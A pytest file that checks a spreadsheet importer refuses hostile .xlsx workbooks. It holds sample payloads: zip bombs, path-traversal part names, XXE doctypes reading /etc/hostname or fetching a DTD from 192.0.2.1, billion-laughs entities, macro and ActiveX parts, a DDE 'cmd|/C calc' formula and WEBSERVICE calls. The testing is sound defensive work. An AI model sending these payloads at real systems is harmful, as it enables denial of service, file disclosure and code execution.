"""Workbooks made to do harm are refused by name, or read without doing what they ask for.

Bombs, names and XML are made byte by byte (tests/workbook/bombs.py, rawbook.py), never by the code under test.
"""

import binascii
import struct
import zipfile
from pathlib import Path

import pytest

from jinjiang_desk.domain.exchange import ReadPackage
from jinjiang_desk.domain.problem import Code, DeskError
from jinjiang_desk.domain.records import Progress
from jinjiang_desk.workbook.archive import open_archive
from jinjiang_desk.workbook.reader import read_envelope, read_package
from jinjiang_desk.workbook.writer import write_package
from tests.workbook.bombs import (
    Entry,
    deflated,
    directory,
    ending,
    local_header,
    nested_quotes,
    packed_zip,
    same_bytes_for_all,
    write_zip,
)
from tests.workbook.packages import a_jpeg, a_return, labels_of, row_id
from tests.workbook.rawbook import edit, pack, swap, unpack
from tests.workbook.refusals import code_of
from tests.workbook.test_damage import read_or_refuse

SHEET = "xl/worksheets/sheet2.xml"
EVIDENCE = row_id(21)


@pytest.fixture(scope="module")
def written_once(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The bytes of a good return workbook with a photo."""
    photo = tmp_path_factory.mktemp("good") / "photo.copy"
    photo.write_bytes(a_jpeg(20))
    path = photo.with_name("回传表.xlsx")
    write_package(a_return({EVIDENCE: a_jpeg(20)}), {EVIDENCE: photo}, path, labels_of())
    return path.read_bytes()


@pytest.fixture
def returned(tmp_path: Path, written_once: bytes) -> Path:
    """A good return workbook with a photo."""
    path = tmp_path / "回传表.xlsx"
    path.write_bytes(written_once)
    return path


def code_of_all_parts(path: Path) -> Code:
    """Return why the parts of a ZIP cannot all be read out, whether or not they are a workbook."""

    def read_all() -> int:
        with open_archive(path) as archive:
            return sum(len(chunk) for part in archive.parts() for chunk in archive.chunks(part))

    with pytest.raises(DeskError) as refused:
        read_all()
    return refused.value.problems[0].code


# ---------------------------------------------------------------- bombs


def test_a_bomb_of_nested_quotes(tmp_path: Path) -> None:
    path = nested_quotes(tmp_path / "炸弹.xlsx", b" " * 1_000_000, 200)
    assert path.stat().st_size < 50_000
    # Newer Pythons refuse to unpack it as well; its directory is still read.
    with zipfile.ZipFile(path) as package:
        assert sum(one.file_size for one in package.infolist()) > 200_000_000
    assert code_of_all_parts(path) is Code.WORKBOOK_UNSAFE


def test_many_parts_that_are_one_place_in_the_file(tmp_path: Path) -> None:
    path = same_bytes_for_all(tmp_path / "炸弹.xlsx", b" " * 1_000_000, 2_000)
    assert code_of_all_parts(path) is Code.WORKBOOK_UNSAFE


def test_many_parts_that_each_stay_below_the_floor(tmp_path: Path) -> None:
    blank = b" " * 9_000_000
    path = packed_zip(tmp_path / "炸弹.xlsx", ((b"xl/media/image%d.png" % n, blank) for n in range(15)))
    assert code_of_all_parts(path) is Code.WORKBOOK_UNSAFE


def test_very_many_parts(tmp_path: Path) -> None:
    path = packed_zip(tmp_path / "炸弹.xlsx", ((b"xl/a%d.xml" % number, b"") for number in range(26_000)))
    assert code_of_all_parts(path) is Code.WORKBOOK_UNSAFE


def test_a_list_of_parts_that_is_a_bomb_itself(tmp_path: Path) -> None:
    """The library reads as much at once as the end of the file claims: here 60 MB of names without parts."""
    lines = directory(Entry(b"n" * 60_000, 0, 0, 0, 0) for _ in range(1_000))
    path = tmp_path / "炸弹.xlsx"
    path.write_bytes(b"PK\3\4" + lines + ending(1_000, len(lines), 4))
    assert code_of_all_parts(path) is Code.WORKBOOK_UNSAFE


@pytest.mark.parametrize("wide", [False, True], ids=["2-GiB", "1-TiB"])
def test_sizes_that_are_declared_and_not_there(tmp_path: Path, wide: bool) -> None:
    """What is there counts, whatever was said of it (in the fields for large files, too)."""
    part = b"<a></a>   "
    packed, crc = deflated(part), binascii.crc32(part)
    content = local_header(b"xl/a.xml", len(packed), len(part), crc) + packed
    extra = struct.pack("<HHQ", 1, 8, 2**40) if wide else b""
    declared = Entry(b"xl/a.xml", 0, len(packed), 0xFFFFFFFF if wide else 2**31, crc, extra=extra)
    with open_archive(write_zip(tmp_path / "大.xlsx", content, [declared])) as archive:
        assert b"".join(archive.chunks("xl/a.xml")) == part


def test_a_packed_size_beyond_the_end(tmp_path: Path) -> None:
    content = local_header(b"xl/a.xml", 5, 9, 1) + deflated(b" " * 1000)[:5]
    declared = Entry(b"xl/a.xml", 0, 2**31 - 1, 1000, 1)
    assert code_of_all_parts(write_zip(tmp_path / "长.xlsx", content, [declared])) is Code.WORKBOOK_BROKEN


def test_a_part_of_two_gigabytes(tmp_path: Path, returned: Path) -> None:
    """They are really there (in 2 MB of file), and reading stops at the limits."""
    parts = unpack(returned)
    with zipfile.ZipFile(tmp_path / "两吉.xlsx", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        for name, content in parts.items():
            if name != SHEET:
                package.writestr(name, content)
        with package.open(SHEET, "w", force_zip64=True) as sheet:
            head, data, _ = parts[SHEET].partition(b"<sheetData>")
            sheet.write(head + data)
            for _ in range(256):
                sheet.write(b" " * (1 << 20))
    # 256 MB suffice to see it: writing all of the 2 GiB would only take its time.
    assert code_of(tmp_path / "两吉.xlsx") is Code.WORKBOOK_UNSAFE


# ---------------------------------------------------------------- names


@pytest.mark.parametrize(
    "name",
    [
        b"xl/styles.xml\0.txt",
        b"xl/a\x01.xml",
        b"xl/\x7f.xml",
        b"xl/a\n.xml",
        b"\0",
        b"../\0",
        b"c:/a",
        b"a/../b",
    ],
    ids=["nul", "control", "delete", "line-break", "only-nul", "climb-nul", "drive", "inner-climb"],
)
def test_names_with_signs_that_nobody_sees(tmp_path: Path, returned: Path, name: bytes) -> None:
    parts = [(one.encode(), content) for one, content in unpack(returned).items()]
    assert code_of(packed_zip(tmp_path / "名.xlsx", [*parts, (name, b"<a/>")])) is Code.WORKBOOK_UNSAFE


def test_a_name_cut_at_its_nul_does_not_take_the_place_of_another(tmp_path: Path, returned: Path) -> None:
    parts = [(one.encode(), content) for one, content in unpack(returned).items() if one != SHEET]
    evil = (f"{SHEET}\0.png".encode(), unpack(returned)[SHEET])
    assert code_of(packed_zip(tmp_path / "名.xlsx", [*parts, evil])) is Code.WORKBOOK_UNSAFE


def test_relations_lead_nowhere_outside(returned: Path, tmp_path: Path) -> None:
    """A sheet, a picture or a drawing that a relationship looks for on the disk or the network is not there."""
    secret = tmp_path / "秘密.jpg"
    secret.write_bytes(a_jpeg(7))
    places = (
        f"../../../../..{secret}",
        str(secret),
        secret.as_uri(),
        "\\\\host\\share\\a.jpg",
        "%2e%2e/%2e%2e/a.jpg",
    )
    for place in places:
        drawing = "xl/drawings/_rels/drawing1.xml.rels"
        found = read_or_refuse(edit(returned, {drawing: swap(unpack_target(returned, drawing), place)}))
        outside = isinstance(found, DeskError) and found.problems[0].code is Code.WORKBOOK_BROKEN
        assert outside or (isinstance(found, ReadPackage) and found.pictures == {})


def unpack_target(path: Path, part: str) -> str:
    return unpack(path)[part].decode().partition('Target="')[2].partition('"')[0]


# ---------------------------------------------------------------- XML

DOCTYPES = {
    "plain": "<!DOCTYPE x>",
    "entities": '<!DOCTYPE x [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>',
    "external": '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
    "parameter": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>',
    "public": '<!DOCTYPE x PUBLIC "-//X//Y" "http://192.0.2.1/x.dtd">',
}
PARTS = (
    "[Content_Types].xml",
    "_rels/.rels",
    "docProps/custom.xml",
    "xl/workbook.xml",
    "xl/_rels/workbook.xml.rels",
    "xl/styles.xml",
    "xl/sharedStrings.xml",
    SHEET,
    "xl/worksheets/_rels/{evidence}.rels",
    "xl/drawings/drawing1.xml",
    "xl/drawings/_rels/drawing1.xml.rels",
)


def part_called(path: Path, name: str) -> str:
    """Return the real name of a part: the relations of the sheet that has the photo stand where they stand."""
    if "{evidence}" not in name:
        return name
    return next(one for one in unpack(path) if one.startswith("xl/worksheets/_rels/"))


def with_strings(path: Path) -> Path:
    """Give a workbook a part of shared strings, which ours does not have."""
    entry = '<Relationship Id="r99" Type="x/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    relations = swap("</Relationships>", entry)
    return edit(path, {"xl/_rels/workbook.xml.rels": relations, "xl/sharedStrings.xml": b"<sst/>"})


def put_in(path: Path, part: str, content: bytes) -> Code:
    """Return why a workbook is refused that has this content for one of its parts."""
    with_strings(path)
    return code_of(edit(path, {part_called(path, part): content}))


def written(part: Path, name: str, doctype: str) -> str:
    """Return a real part with a DOCTYPE before its root."""
    body = unpack(with_strings(part))[part_called(part, name)].decode().partition("?>")
    return doctype + (body[2] or body[0])


@pytest.mark.parametrize("part", PARTS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_doctype_in_every_kind_of_part(returned: Path, part: str, encoding: str) -> None:
    content = written(returned, part, DOCTYPES["entities"]).encode(encoding)
    assert put_in(returned, part, content) is Code.WORKBOOK_UNSAFE


@pytest.mark.parametrize("doctype", list(DOCTYPES))
def test_every_kind_of_doctype(returned: Path, doctype: str) -> None:
    content = written(returned, "docProps/custom.xml", DOCTYPES[doctype]).encode()
    assert put_in(returned, "docProps/custom.xml", content) is Code.WORKBOOK_UNSAFE


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-8-sig", "iso-8859-1"])
def test_a_doctype_in_other_encodings(returned: Path, encoding: str) -> None:
    marks = {"utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff"}
    declared = '<?xml version="1.0" encoding="iso-8859-1"?>' if encoding == "iso-8859-1" else ""
    content = marks.get(encoding, b"") + (declared + DOCTYPES["entities"] + "<x>&b;</x>").encode(encoding)
    assert put_in(returned, SHEET, content) is Code.WORKBOOK_UNSAFE


@pytest.mark.parametrize("part", PARTS)
def test_entities_without_a_doctype_are_no_xml(returned: Path, part: str) -> None:
    assert put_in(returned, part, b"<x>&lol;</x>") is Code.WORKBOOK_BROKEN


@pytest.mark.parametrize("entity", ["&#0;", "&#xD800;", "&#1114112;", "&", "&;"])
def test_signs_that_are_none(returned: Path, entity: str) -> None:
    assert put_in(returned, SHEET, f"<x>{entity}</x>".encode()) is Code.WORKBOOK_BROKEN


@pytest.mark.parametrize(
    "encoding", ["utf-7", "rot13", "base64", "idna", "gb18030", "utf-32", "nonsense", "undefined"]
)
def test_odd_encodings_are_refused_or_read(returned: Path, encoding: str) -> None:
    content = f'<?xml version="1.0" encoding="{encoding}"?><x/>'.encode()
    found = read_or_refuse(edit(returned, {"xl/styles.xml": content}))
    assert isinstance(found, ReadPackage) or found.problems[0].code is Code.WORKBOOK_BROKEN


def attributes() -> bytes:
    return b"<c " + b" ".join(b'a%d=""' % number for number in range(200_000)) + b"/>"


@pytest.mark.parametrize(
    "content",
    [
        b"<x>" * 30_000 + b"</x>" * 30_000,
        attributes(),
        b'<c r="' + b"A" * 3_000_000 + b'"/>',
        b"<!--" + b"x" * 3_000_000 + b"-->",
        b"<?x " + b"x" * 3_000_000 + b"?>",
        b"<row><c t='inlineStr'><is><t>" + b"x" * 200_000 + b"</t></is></c></row>",
    ],
    ids=["deep", "many-attributes", "long-attribute", "long-comment", "long-instruction", "long-text"],
)
def test_xml_that_would_fill_memory(returned: Path, content: bytes) -> None:
    assert code_of(edit(returned, {SHEET: swap("<sheetData>", f"<sheetData>{content.decode()}")})) is (
        Code.WORKBOOK_UNSAFE
    )


# ---------------------------------------------------------------- what acts or fetches

FORBIDDEN = {
    "macros": ("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject", "vbaProject"),
    "macro-sheet": ("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", "xlMacrosheet"),
    "link": (
        "xl/externalLinks/externalLink1.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
        "externalLink",
    ),
    "control": ("xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "activeXControlBinary"),
    "connection": (
        "xl/connections.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
        "connections",
    ),
    "web-query": (
        "xl/queryTables/queryTable1.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml",
        "queryTable",
    ),
}


@pytest.mark.parametrize("kind", list(FORBIDDEN))
@pytest.mark.parametrize("way", ["part", "backslashes", "type", "relation"])
def test_what_acts_or_fetches_is_refused_however_it_is_called(returned: Path, kind: str, way: str) -> None:
    part, content_type, relation = FORBIDDEN[kind]
    innocent = "xl/media/image9.png"
    if way in ("part", "backslashes"):
        changed = edit(returned, {part.replace("/", "\\") if way == "backslashes" else part.upper(): b"x"})
    elif way == "type":
        override = f'<Override PartName="/{innocent}" ContentType="{content_type}"/></Types>'
        changed = edit(returned, {innocent: b"x", "[Content_Types].xml": swap("</Types>", override)})
    else:
        entry = (
            f'<Relationship Id="r98" Type="http://x/{relation}" Target="media/image9.png"/></Relationships>'
        )
        changes = {innocent: b"x", "xl/_rels/workbook.xml.rels": swap("</Relationships>", entry)}
        changed = edit(returned, changes)
    if kind == "macro-sheet" and way == "relation":
        # A sheet that is no worksheet is not read; its type or name gives it away wherever Excel would run it.
        assert read_envelope(changed).unit == "示例镇"
    else:
        assert code_of(changed) is Code.WORKBOOK_UNSAFE


def test_a_workbook_for_macros_that_was_renamed(returned: Path) -> None:
    plain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    renamed = swap(plain, "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    assert code_of(edit(returned, {"[Content_Types].xml": renamed})) is Code.WORKBOOK_UNSAFE


def test_embedded_files_are_left_closed_and_told(returned: Path) -> None:
    changes = {
        "xl/embeddings/oleObject1.bin": b"MZ" * 100,
        "xl/embeddings/Microsoft_Word_Document1.docx": b"PK",
    }
    found = read_package(edit(returned, changes), returned.parent)
    assert [one.code for one in found.problems] == [Code.WORKBOOK_OBJECTS_UNREAD]
    assert found.problems[0].values["count"] == "2"
    assert len(found.package.rows) == len(a_return({EVIDENCE: a_jpeg(20)}).rows)


def test_links_are_neither_followed_nor_in_the_way(returned: Path) -> None:
    part = "xl/worksheets/_rels/sheet2.xml.rels"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
    targets = (
        "javascript:alert(1)",
        "file:///C:/a.exe",
        "ms-word:ofe|u|http://192.0.2.1/",
        "\\\\192.0.2.1\\x",
        "#A1",
    )
    entries = "".join(
        f'<Relationship Id="rL{number}" Type="{kind}" Target="{target}" TargetMode="External"/>'
        for number, target in enumerate(targets)
    )
    relations = f"<Relationships>{entries}</Relationships>".encode()
    links = "".join(f'<hyperlink ref="G2" r:id="rL{number}"/>' for number in range(len(targets)))
    sheet = swap("</sheetData>", f'</sheetData><hyperlinks xmlns:r="r">{links}</hyperlinks>')
    before = read_package(returned, returned.parent).package
    found = read_package(edit(returned, {part: relations, SHEET: sheet}), returned.parent)
    assert (found.package, found.problems) == (before, ())


# ---------------------------------------------------------------- formulas

FORMULAS = ("cmd|'/C calc'!A0", 'HYPERLINK("http://192.0.2.1",1)', 'WEBSERVICE("http://192.0.2.1")', "1/0")


def text_cell(content: bytes) -> str:
    """Return the cell of 进展情况 in the only row of 进展, as stored."""
    start = content.index(b'<c r="G2"')
    return content[start : content.index(b"</c>", start) + 4].decode()


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("kind", ["str", "e", "n", "missing"])
def test_a_formula_is_its_last_value_and_nothing_more(returned: Path, formula: str, kind: str) -> None:
    escaped = formula.replace("&", "&amp;").replace("<", "&lt;")
    value = {"str": "<v>已完成</v>", "e": "<v>#REF!</v>", "n": "<v>5</v>", "missing": ""}[kind]
    name = "" if kind == "missing" else f' t="{kind}"'

    def change(content: bytes) -> bytes:
        return content.replace(
            text_cell(content).encode(), f'<c r="G2"{name}><f>{escaped}</f>{value}</c>'.encode()
        )

    found = read_package(edit(returned, {SHEET: change}), returned.parent)
    texts = [row.text for row in found.package.rows if isinstance(row, Progress)]
    assert not any("192.0.2.1" in text or "cmd" in text for text in texts)
    if kind == "str":
        assert texts == ["已完成"]


# ---------------------------------------------------------------- parts that are missing


@pytest.mark.parametrize(
    "part",
    [
        "xl/workbook.xml",
        "xl/_rels/workbook.xml.rels",
        "xl/sharedStrings.xml",
        "xl/styles.xml",
        SHEET,
        "xl/drawings/drawing1.xml",
        "xl/media/image1.jpeg",
    ],
)
def test_a_missing_part_refuses_the_whole_file(returned: Path, part: str) -> None:
    expected = Code.WORKBOOK_NOT_ONE if part == "xl/workbook.xml" else Code.WORKBOOK_BROKEN
    assert code_of(edit(with_strings(returned), {part: None})) is expected


def test_no_part_that_is_left_out_crashes(returned: Path, tmp_path: Path) -> None:
    parts = unpack(returned)
    good = read_package(returned, tmp_path).package.envelope
    for name in parts:
        rest = {one: content for one, content in parts.items() if one != name}
        found = read_or_refuse(pack(tmp_path / "缺.xlsx", rest))
        assert found.problems if isinstance(found, DeskError) else found.package.envelope == good
